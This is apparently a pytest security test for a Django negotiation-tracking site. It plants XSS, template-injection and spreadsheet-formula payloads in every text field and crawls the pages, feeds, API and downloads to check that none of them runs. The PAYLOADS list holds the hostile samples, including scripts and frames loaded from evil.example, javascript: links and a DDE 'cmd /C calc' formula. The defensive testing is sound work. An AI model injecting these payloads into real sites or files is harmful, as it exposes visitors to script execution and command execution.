"""Hostile text renders inert everywhere the public can read it.

Each XSS payload is stored in every free-text field of every kind of record, in a
complete set of published records (talks, actors, topics, positions, statements,
events, milestones, sources, citations, corrections, and a retracted statement).
Then the whole public surface is crawled (pages, feeds, sitemap, search, the API,
downloads: whatever is linked or needs no URL arguments, see tests/crawl.py) and
every response is read the way its consumer reads it: HTML as a browser would,
Atom/RSS as a feed reader would (html-typed text is HTML again), JSON as data,
CSV as a spreadsheet would. Nothing may run.
"""

import datetime
import io
import re
import zipfile
from urllib.parse import urlencode

import pytest
from django.core.management import call_command
from django.db import models
from django.urls import NoReverseMatch, reverse

from tests import factories
from tests.crawl import Page, crawl, problems
from tracker.models import Correction, Statement, Status

# ``{m}`` becomes a marker unique to the payload and field, so the test can tell
# where each stored value was rendered. Markers are letters and digits only, so
# escaping and Markdown leave them intact.
PAYLOADS = [
    "<script>alert('{m}')</script>",
    "<SCRIPT SRC=//evil.example/{m}.js></SCRIPT>",
    "<img src=x onerror=\"alert('{m}')\">",
    "<svg onload=alert('{m}')><circle r=9 /></svg>",
    "<svg><script>alert('{m}')</script></svg>",
    "<a href=\"javascript:alert('{m}')\">{m}</a>",
    "[{m}](javascript:alert(1))",
    "[{m}](JaVaScRiPt:alert(1)) [x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '![{m}](https://img.example/x.png" onerror="alert(1))',
    "<a href=\"&#106;avascript:alert('{m}')\">encoded</a>",
    '<a href="java\tscript:alert(1)">{m}</a>',
    "\"><script>alert('{m}')</script>",
    "'><img src=x onerror=alert('{m}')>",
    '" onmouseover="alert(\'{m}\')" x="',
    "</title><script>alert('{m}')</script>",
    "</textarea></script><script>alert('{m}')</script>",
    "<!--{m}--><script>alert(1)</script><!-- ",
    "]]><script>alert('{m}')</script><![CDATA[",
    "<style>body{{display:none}}</style>{m}",
    "<div style=\"background:url('javascript:alert(1)')\">{m}</div>",
    '<iframe src="https://evil.example/{m}"></iframe>',
    '<object data="javascript:alert(1)">{m}</object><embed src="x.swf">',
    '<base href="https://evil.example/{m}/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/{m}">',
    "<details open ontoggle=alert('{m}')>",
    '<form action="javascript:alert(1)"><button>{m}</button></form>',
    "<input autofocus onfocus=alert('{m}')>",
    "<scr<script>ipt>alert('{m}')</scr</script>ipt>",
    "<<script>alert('{m}');//<</script>",
    "<math><mi xlink:href=\"javascript:alert('{m}')\">x</mi></math>",
    "{{{{ request.META }}}}{m}",
    "{{% csrf_token %}}{{% debug %}}{m}",
    "{{{{ settings.SECRET_KEY }}}}{{{{7*7}}}}${{7*7}}<%= 7*7 %>{m}",
    '=HYPERLINK("https://evil.example/{m}","click")',
    "@SUM(1+1)*cmd|' /C calc'!A0 {m}",
    "+{m}-1",
    "\u2028\u2029</script>{m}\u202e",
]
# For fields too short for the payloads above (language codes, qualifiers).
SHORT_PAYLOADS = ['"><b>x', '" onclick=x', "'><svg/x", "<i>x</i>", "=1+1"]

# The payloads are spread over this many complete sets of records (see ``poisoned``).
GROUPS = 8

# Fields whose database constraints admit only codes (ISO country, Wikidata id).
CODE_FIELDS = {"country", "wikidata_id"}


def text_fields(model: type[models.Model]) -> list[models.Field]:
    """The free-text fields of ``model``: what an editor or an import can write anything into."""
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not isinstance(field, models.SlugField)
        and field.name not in CODE_FIELDS
    ]


def marker(payload: int, field: models.Field) -> str:
    return f"zq{payload}x{field.model.__name__.lower()}x{field.name.replace('_', '')}q"


def value_for(indices: list[int], field: models.Field) -> tuple[str, list[int]] | None:
    """As many of the payloads ``indices`` as ``field`` can hold, one paragraph each, and
    which ones they are; a short payload for a field too short for any of them."""
    if isinstance(field, models.URLField):
        # URLs pass Django's URL validation in the admin and in imports; a payload that
        # survives it is still hostile (quotes and angle brackets in the path).
        index = indices[0]
        return f'https://evil.example/{marker(index, field)}?q="><script>alert(1)</script>', [index]
    limit = field.max_length or 100_000
    chosen, parts = [], []
    for index in indices:
        part = PAYLOADS[index].format(m=marker(index, field))
        if len("\n\n".join([*parts, part])) <= limit:
            chosen.append(index)
            parts.append(part)
    if parts:
        return "\n\n".join(parts), chosen
    short = SHORT_PAYLOADS[indices[0] % len(SHORT_PAYLOADS)]
    return (short, []) if len(short) <= limit else None


def poison(record: models.Model, indices: list[int], stored: dict[str, str]) -> None:
    """Write the payloads ``indices`` into every free-text field of ``record``.

    Written with ``update()``, as a bulk import may: no model code gets a chance to
    clean the text on the way in, so only the output side can keep it inert.
    """
    values = {}
    for field in text_fields(record.__class__):
        found = value_for(indices, field)
        if found is None:
            continue
        values[field.attname], chosen = found
        label = f"{field.model.__name__}.{field.name}"
        stored[f"short:{label}:{indices[0]}"] = label
        stored.update({marker(index, field): label for index in chosen})
    type(record)._default_manager.filter(pk=record.pk).update(**values)


def build_poisoned_talks(indices: list[int], stored: dict[str, str]) -> None:
    """One complete set of published records, every text field holding the payloads."""
    source = factories.make_source()
    negotiation = factories.make_negotiation()
    actor, other = factories.make_actor(), factories.make_actor()
    participation = factories.make_participation(negotiation=negotiation, actor=actor)
    factories.make_participation(negotiation=negotiation, actor=other)
    topic = factories.make_topic(negotiation=negotiation)
    event = factories.make_event(negotiation=negotiation)
    role = factories.make_event_role(event=event, actor=actor)
    statement = factories.make_statement(negotiation=negotiation, speaker=actor, event=event)
    statement.topics.add(topic)
    citation = factories.cite(statement, source, locator="paragraph 3")
    position = factories.make_position(actor=actor, topic=topic, evidence=[statement])
    milestone = factories.make_milestone(negotiation=negotiation)
    milestone.statements.add(statement)
    milestone.events.add(event)
    relationship = factories.make_relationship(subject=actor, object=other)
    figure = factories.make_key_figure(negotiation=negotiation)
    for record in (negotiation, topic, event, milestone, relationship, actor, position, figure):
        factories.cite(record, source)
    correction = factories.make_correction(statement)
    retracted = factories.make_statement(
        negotiation=negotiation, speaker=other, status=Status.RETRACTED
    )
    factories.cite(retracted, source)
    retraction_note = factories.make_correction(retracted, date=datetime.date(2024, 3, 2))
    records = [
        source, negotiation, actor, other, participation, topic, statement, citation, event,
        role, position, milestone, relationship, figure, correction, retracted, retraction_note,
    ]  # fmt: skip
    for record in records:
        poison(record, indices, stored)


def every_text_field() -> set[str]:
    from django.apps import apps

    return {
        f"{model.__name__}.{field.name}"
        for model in apps.get_app_config("tracker").get_models()
        for field in text_fields(model)
        if not model.__name__.startswith("Historical")
    }


def hostile_queries() -> list[str]:
    """Reflected XSS: payloads in the query string of every page that reads one."""
    urls = []
    for name in ("tracker:search", "api:statement-list", "tracker:home"):
        try:
            base = reverse(name)
        except NoReverseMatch:
            continue
        for index in [*range(6), 11, 12, 13, 30, 31]:
            payload = PAYLOADS[index].format(m=f"zq{index}xqueryxstringq")
            urls.append(base + "?" + urlencode(dict.fromkeys(("q", "as_of", "page"), payload)))
    return urls


@pytest.fixture
def poisoned(db):
    stored: dict[str, str] = {}
    # Several payloads share one set of records (a paragraph each, as many as a field
    # holds), so that the crawl stays short; each payload still lands in every field
    # long enough for it.
    for group in range(GROUPS):
        build_poisoned_talks(list(range(group, len(PAYLOADS), GROUPS)), stored)
    call_command("rebuild_search_index", verbosity=0)  # update() bypasses the signals
    return stored


@pytest.mark.django_db
def test_xss_payloads_in_every_text_field_render_inert_on_every_public_surface(client, poisoned):
    pages = crawl(client, extra=hostile_queries())
    kinds = {page.kind for page in pages}
    shown = shown_markers(pages, poisoned)
    # SearchDocument is Parley's own search index, written from the records above.
    expected = {label for label in every_text_field() if not label.startswith("SearchDocument.")}
    pairs = sum(1 for key in poisoned if not key.startswith("short:"))
    print(
        f"{len(PAYLOADS)} payloads, {len(expected)} text fields, {pairs} payload×field pairs "
        f"stored; {len(pages)} responses checked: "
        + ", ".join(f"{kind} {sum(p.kind == kind for p in pages)}" for kind in sorted(kinds))
        + "; fields seen per kind: "
        + ", ".join(f"{kind} {len(fields)}" for kind, fields in sorted(shown.items()))
    )

    issues = by_issue(pages)
    assert not issues, "\n".join(
        f"{issue}  (at {', '.join(urls)})" for issue, urls in issues.items()
    )

    # The test is not vacuous: the payloads were stored, crawled and shown.
    assert len(PAYLOADS) >= 20
    assert set(poisoned.values()) == expected
    assert {"html", "xml"} <= kinds
    for kind in kinds & {"html", "json", "csv", "zip", "xml"}:
        assert shown[kind], f"no stored payload reached any {kind} response"
    for label in ("Statement.text", "Negotiation.title", "Actor.name", "Correction.text"):
        assert label in shown["html"], f"{label} never appeared on a public page"


def by_issue(pages) -> dict[str, list[str]]:
    """Each problem found (payload markers blanked out), with up to three URLs showing it."""
    issues: dict[str, list[str]] = {}
    for page in pages:
        for issue in problems(page):
            urls = issues.setdefault(re.sub(r"zq\d+x\w+?q", "…", issue), [])
            if len(urls) < 3:
                urls.append(page.url)
    return issues


def unzipped_text(body: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return "\n".join(
            archive.read(name).decode("utf-8", "replace") for name in archive.namelist()
        )


def shown_markers(pages, stored: dict[str, str]) -> dict[str, set[str]]:
    """For each kind of response, the fields whose payload marker appears in one."""
    pattern = re.compile(r"zq\d+x[a-z]+x[a-z]+q")
    shown: dict[str, set[str]] = {kind: set() for kind in ("html", "xml", "json", "csv", "zip")}
    for page in pages:
        text = page.text if page.kind != "zip" else unzipped_text(page.body)
        for found in pattern.findall(text):
            if found in stored:
                shown.setdefault(page.kind, set()).add(stored[found])
    return shown


def test_a_retracted_record_shows_its_hostile_correction_inert(client, db):
    build_poisoned_talks([5], {})  # a javascript: link whose text must survive, inert
    retracted = Statement.objects.get(status=Status.RETRACTED)
    response = client.get(retracted.get_absolute_url())
    assert response.status_code == 410
    page = Page(retracted.get_absolute_url(), 410, response["Content-Type"], response.content)
    assert problems(page) == []
    assert marker(5, Correction._meta.get_field("text")) in page.text
